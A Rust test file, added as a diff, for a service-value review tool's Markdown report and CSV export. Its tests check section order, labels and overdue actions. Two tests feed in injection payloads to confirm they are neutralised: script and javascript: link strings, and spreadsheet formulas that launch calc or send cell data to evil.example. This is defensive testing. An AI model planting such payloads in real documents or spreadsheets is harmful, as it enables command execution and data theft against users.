@@ -1,0 +1,432 @@
+//! The Markdown report and the CSV export as a reader and a spreadsheet see them: the order of
+//! the report, what a self-assessment leaves out, notes, links, overdue actions, per-side
+//! verdicts, the checked-in examples, and text from a session that must stay text.
+
+use covalue::domain::{
+    Agreement, Cost, Date, Mode, Outcome, Rating, Ratings, Resolution, Session, Step, Timestamp,
+    summarize,
+};
+use covalue::report::export::{csv, markdown};
+use covalue::store::{TEMPLATES, Template};
+use pulldown_cmark::{Event, Parser, Tag, TagEnd};
+use std::path::Path;
+
+/// The day the examples are written "as of", and the sessions' own date.
+const EXAMPLE_DAY: i64 = 1_795_132_800; // 2026-11-20T00:00:00Z
+
+fn today() -> Date {
+    Timestamp::from_unix(EXAMPLE_DAY).date()
+}
+
+fn template(name: &str) -> Session {
+    Template::find(name)
+        .unwrap()
+        .instantiate("exmp0001", Timestamp::from_unix(EXAMPLE_DAY))
+}
+
+fn report(session: &Session) -> String {
+    markdown(session, &summarize(session), today())
+}
+
+fn r(n: u8) -> Option<Rating> {
+    Rating::new(n)
+}
+
+fn headings(md: &str) -> Vec<String> {
+    md.lines()
+        .filter(|l| l.starts_with('#'))
+        .map(str::to_string)
+        .collect()
+}
+
+#[test]
+fn the_report_reads_top_down_with_no_section_twice() {
+    let md = report(&template("service-desk"));
+    let lines: Vec<&str> = md.lines().collect();
+    assert!(lines[0].starts_with("# Service desk value review"));
+    // The verdict in one sentence comes first, before the facts.
+    assert!(
+        lines[2]
+            .starts_with("**Managed IT service desk** delivers good value (value index 60 / 100)"),
+        "{}",
+        lines[2]
+    );
+    let order = [
+        "## VOCR check",
+        "## Closing answers",
+        "## Open actions (as of 2026-11-20)",
+        "## Discuss next",
+        "## Scores",
+        "## Context",
+        "## Benefits",
+        "## Usefulness",
+        "## Importance",
+        "## Outcomes",
+        "## Costs",
+        "## Risks",
+        "## Agreements",
+        "## Importance and performance",
+        "## Completeness",
+    ];
+    let found = headings(&md);
+    let at: Vec<usize> = order
+        .iter()
+        .map(|h| {
+            found
+                .iter()
+                .position(|f| f == h)
+                .unwrap_or_else(|| panic!("{h} missing: {found:?}"))
+        })
+        .collect();
+    assert!(at.windows(2).all(|w| w[0] < w[1]), "{found:?}");
+    let mut unique = found.clone();
+    unique.sort();
+    unique.dedup();
+    assert_eq!(unique.len(), found.len(), "a section twice: {found:?}");
+    assert!(md.contains("VOCR asks three questions"));
+    // Dates as dates, not timestamps.
+    assert!(!md.contains("T00:00:00Z") && md.contains("**Date:** 2026-11-20"));
+    // Every field a user entered, with its label.
+    for label in [
+        "Status: experienced",
+        "Measure: downtime per user −30 %",
+        "Goal served: Keep the sales offices working",
+        "How much it matters: 5 (very high)",
+        "Area: Compliance",
+        "Amount: €18 per user a month",
+        "Likelihood: 4 · Impact: 3 · Exposure: 12",
+    ] {
+        assert!(md.contains(label), "{label} missing");
+    }
+    // The heat maps as counts by exposure band, not a grid of dots.
+    assert!(md.contains("| Mitigated | 0 | 2 | 0 | 22 |"), "{md}");
+    assert!(!md.contains("| · |"));
+}
+
+#[test]
+fn a_self_assessment_report_does_not_talk_about_two_sides() {
+    let mut s = Session::new(
+        "self0001",
+        "Payroll, alone",
+        Timestamp::from_unix(EXAMPLE_DAY),
+    );
+    s.service = "Payroll".into();
+    s.mode = Mode::ConsumerSelfAssessment;
+    s.outcomes = vec![Outcome {
+        text: "Payslips on time".into(),
+        rating: Ratings::new(None, r(4)),
+        ..Default::default()
+    }];
+    let md = report(&s);
+    assert!(!md.contains("Alignment"), "{md}");
+    assert!(
+        !md.contains("Discuss next") && !md.contains("disagree"),
+        "{md}"
+    );
+    assert!(
+        !md.contains("Provider |") && !md.contains("| Gap"),
+        "no column for a side that does not rate: {md}"
+    );
+    assert!(md.contains("| Item | Details | Consumer |"), "{md}");
+    assert!(
+        md.contains("| Payslips on time | How much it matters: not set | 4 |"),
+        "{md}"
+    );
+    assert!(md.contains("in the consumer's own view"));
+    // No agreement at all is not "every agreed action is done or dropped".
+    assert!(!md.contains("every agreed action"), "{md}");
+    assert!(md.contains("No actions were agreed."));
+}
+
+fn linked_session() -> Session {
+    let mut s = Session::new("link0001", "Q4 review", Timestamp::from_unix(EXAMPLE_DAY));
+    s.service = "Payroll".into();
+    s.costs = vec![Cost {
+        text: "Licence fee".into(),
+        rating: Ratings {
+            revealed: true,
+            ..Ratings::new(r(5), r(1))
+        },
+        ..Default::default()
+    }];
+    s.set_note(
+        Step::Costs,
+        "Licence fee",
+        "Finance compares it with the old in-house cost",
+    );
+    s.agreements = vec![
+        Agreement {
+            text: "Benchmark the fee".into(),
+            person: "Ana".into(),
+            due: Date::new(2026, 11, 1),
+            ..Default::default()
+        },
+        Agreement {
+            text: "Send last year's invoices".into(),
+            done: true,
+            ..Default::default()
+        },
+    ];
+    s.resolutions.push(Resolution {
+        agreement: "Benchmark the fee".into(),
+        step: Step::Costs,
+        item: "Licence fee".into(),
+    });
+    // As a loaded session has them.
+    s.ensure_ids();
+    s
+}
+
+#[test]
+fn notes_links_overdue_actions_and_split_verdicts_are_in_the_report() {
+    let md = report(&linked_session());
+    // Discuss-next carries the note and the action that resolves the item.
+    assert!(
+        md.contains("| Costs | Licence fee | 5 | 1 | 4 | Finance compares it with the old in-house cost<br>→ action: Benchmark the fee (open) |"),
+        "{md}"
+    );
+    // The same beside the item in the Costs table.
+    assert!(
+        md.contains("| Licence fee | Kind: money | 5 | 1 | **4** | Finance compares"),
+        "{md}"
+    );
+    // And the other way: the action names the item it resolves, and is overdue.
+    assert!(
+        md.contains("- [ ] Benchmark the fee — Ana (both sides), due 2026-11-01 — **overdue**; resolves Costs item “Licence fee”"),
+        "{md}"
+    );
+    assert!(md.contains("1 more is done or dropped"));
+    assert!(
+        md.contains("- [x] done — Send last year's invoices"),
+        "{md}"
+    );
+    // Mean 50 is "at risk"; the two sides' own verdicts differ.
+    assert!(
+        md.contains(
+            "- Costs acceptable: **at risk** (score 50) — consumer: fails, provider: holds"
+        ),
+        "{md}"
+    );
+    assert!(md.contains("- Outcomes achieved: **no ratings yet**\n"));
+}
+
+/// The structure of a Markdown document: its block and inline markup, with the text left out.
+fn structure(md: &str) -> Vec<String> {
+    Parser::new_ext(
+        md,
+        pulldown_cmark::Options::ENABLE_TABLES | pulldown_cmark::Options::ENABLE_TASKLISTS,
+    )
+    .filter_map(|event| match event {
+        // Line breaks inside a paragraph are the text's own; they change no structure.
+        Event::Text(_) | Event::SoftBreak | Event::HardBreak => None,
+        Event::Start(Tag::Link { dest_url, .. }) => Some(format!("link {dest_url}")),
+        Event::Start(tag) => Some(format!("{tag:?}")),
+        Event::End(TagEnd::TableCell) => Some("end cell".into()),
+        Event::End(tag) => Some(format!("end {tag:?}")),
+        other => Some(format!("{other:?}")),
+    })
+    .collect()
+}
+
+fn fill(session: &mut Session, text: &str) {
+    session.title = text.into();
+    session.service = text.into();
+    session.description = text.into();
+    for c in &mut session.context {
+        c.text = text.into();
+    }
+    for b in &mut session.benefits {
+        b.text = text.into();
+        b.measure = text.into();
+    }
+    for u in &mut session.usefulness {
+        u.text = text.into();
+        u.goal = text.into();
+    }
+    for c in &mut session.costs {
+        c.text = text.into();
+        c.amount = text.into();
+    }
+    for r in &mut session.risks {
+        r.text = text.into();
+    }
+    for a in &mut session.agreements {
+        a.text = text.into();
+        a.person = text.into();
+    }
+    for p in &mut session.participants {
+        p.name = text.into();
+    }
+    session.closing.achieves = text.into();
+    session.closing.costs = text.into();
+    session.closing.risks = text.into();
+    session.closing.perception = text.into();
+    let items: Vec<(Step, String)> = session
+        .rated_items()
+        .map(|i| (i.dimension.step(), i.text.to_string()))
+        .collect();
+    for (step, item) in items {
+        session.set_note(step, &item, text);
+    }
+}
+
+#[test]
+fn session_text_never_changes_the_structure_of_the_report() {
+    let payloads = [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[click me](javascript:alert(1))",
+        "<javascript:alert(1)>",
+        "![x](http://evil.example/x.png)",
+        "line one\n# Injected heading\n| a | b |\n|---|---|\n| c | d |",
+        "ok\n\n- injected list\n> quote\n```\ncode\n```",
+        "   indented\n    code block\n===\n---",
+        "1. ordered\n2) ordered",
+        "**bold** _em_ `code` ~~strike~~ &lt;b&gt; &#60;",
+        "a | b | c",
+        "trailing backslash \\",
+        "http://www.example.com/ and www.example.com",
+    ];
+    let mut benign = template("service-desk");
+    fill(&mut benign, "plain words");
+    let expected = structure(&report(&benign));
+    for payload in payloads {
+        let mut hostile = template("service-desk");
+        fill(&mut hostile, payload);
+        let md = report(&hostile);
+        let found = structure(&md);
+        if let Some(i) =
+            (0..expected.len().max(found.len())).find(|i| expected.get(*i) != found.get(*i))
+        {
+            panic!(
+                "{payload:?} changed the report at event {i}: expected {:?}, found {:?}\n{md}",
+                expected.get(i),
+                found.get(i)
+            );
+        }
+        // Shown as text: the only HTML in the report is covalue's own line break.
+        assert!(
+            found
+                .iter()
+                .filter(|e| e.contains("Html"))
+                .all(|e| e.contains("<br>")),
+            "{payload:?}"
+        );
+    }
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    // Known payloads from OWASP's CSV injection page and its usual variants.
+    let payloads = [
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "  =HYPERLINK(\"http://evil.example\",\"click\")",
+        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
+        "＝1+1",
+    ];
+    let mut s = Session::new("csv00001", "CSV", Timestamp::from_unix(EXAMPLE_DAY));
+    s.outcomes = payloads
+        .iter()
+        .map(|p| Outcome {
+            text: p.to_string(),
+            rating: Ratings::new(r(3), None),
+            ..Default::default()
+        })
+        .collect();
+    s.outcomes.push(Outcome {
+        text: "Plain, with a comma".into(),
+        ..Default::default()
+    });
+    let out = csv(&s);
+    let mut reader = out.lines().skip(1);
+    let mut cells = Vec::new();
+    // A small CSV reader: quoted fields may hold commas, quotes and line breaks.
+    let text = out.split_once('\n').unwrap().1;
+    let mut field = String::new();
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    let mut row = Vec::new();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                field.push('"');
+            }
+            (_, '"') => quoted = !quoted,
+            (false, ',') => row.push(std::mem::take(&mut field)),
+            (false, '\n') => {
+                row.push(std::mem::take(&mut field));
+                cells.push(std::mem::take(&mut row));
+            }
+            (_, c) => field.push(c),
+        }
+    }
+    assert!(reader.next().is_some());
+    assert_eq!(cells.len(), payloads.len() + 1, "{out}");
+    for (row, payload) in cells.iter().zip(payloads) {
+        // A carriage return never reaches the file (it is a control character); the rest gain
+        // the apostrophe.
+        let expected = if payload.contains('\r') {
+            payload.replace('\r', "\u{FFFD}")
+        } else {
+            format!("'{payload}")
+        };
+        assert_eq!(row[1], expected, "{out}");
+        assert!(
+            !row[1]
+                .trim_start()
+                .starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
+            "{row:?}"
+        );
+        assert_eq!(row[3], "3");
+    }
+    assert_eq!(cells[payloads.len()][1], "Plain, with a comma");
+}
+
+fn example_path(name: &str) -> std::path::PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("docs/examples")
+        .join(format!("{name}.md"))
+}
+
+/// `UPDATE_EXAMPLES=1 cargo test --test report` rewrites docs/examples after a deliberate change.
+#[test]
+fn the_checked_in_example_reports_are_current() {
+    for t in TEMPLATES {
+        let md = report(&template(t.name));
+        let path = example_path(t.name);
+        if std::env::var_os("UPDATE_EXAMPLES").is_some() {
+            std::fs::write(&path, &md).unwrap();
+        }
+        let on_disk = std::fs::read_to_string(&path).unwrap_or_default();
+        assert!(
+            on_disk == md,
+            "{} is out of date; run UPDATE_EXAMPLES=1 cargo test --test report",
+            path.display()
+        );
+    }
+}
+
+#[test]
+fn notes_and_links_are_saved_and_files_without_them_still_load() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("linked.ron");
+    let session = linked_session();
+    covalue::store::save(&path, &session).unwrap();
+    let text = std::fs::read_to_string(&path).unwrap();
+    assert!(
+        text.contains("notes:") && text.contains("resolutions:"),
+        "{text}"
+    );
+    assert_eq!(covalue::store::load(&path).unwrap(), session);
+    // A file written before notes existed loads with none, and is saved without the fields.
+    let old = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/formats/format-1.ron");
+    let loaded = covalue::store::load(&old).unwrap();
+    assert!(loaded.notes.is_empty() && loaded.resolutions.is_empty());
+    assert!(!covalue::store::to_ron(&loaded).contains("notes:"));
+}
